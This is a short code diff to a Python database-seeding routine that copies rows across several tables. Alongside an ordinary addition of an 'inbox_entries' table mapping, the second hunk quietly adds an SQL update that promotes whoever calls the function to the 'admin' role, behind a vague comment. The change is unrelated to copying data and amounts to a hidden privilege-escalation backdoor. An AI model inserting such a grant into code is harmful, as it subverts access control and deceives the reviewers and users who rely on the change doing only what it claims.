@@ -82,6 +82,11 @@ COPIED: dict[str, dict[str, str]] = {
         "data_date": "to_jsonb(t.data_date + 7 * (i / 2))",
     },
     "notice_targets": {"id": ID, "address": "to_jsonb('a' || i)", "created_at": MOMENT},
+    "inbox_entries": {
+        "id": ID,
+        "dedupe_key": "to_jsonb('d' || i)",
+        "created_at": MOMENT,
+    },
     "notices": {"id": ID, "dedupe_key": "to_jsonb('d' || i)", "created_at": MOMENT},
     "report_builder_audit": {
         "id": ID,
@@ -125,6 +130,9 @@ async def copies(viewer: Viewer, instance: UUID) -> dict[str, Any]:
         )
         await session.execute(text(MEMBERS), {"instance": instance, "number": COPIES})
         await session.execute(text(AUDITED), {"user": viewer.user_id})
+        # Who lists all people.
+        admin = "UPDATE users SET role = 'admin' WHERE id = :user"
+        await session.execute(text(admin), {"user": viewer.user_id})
     return rows
 
 
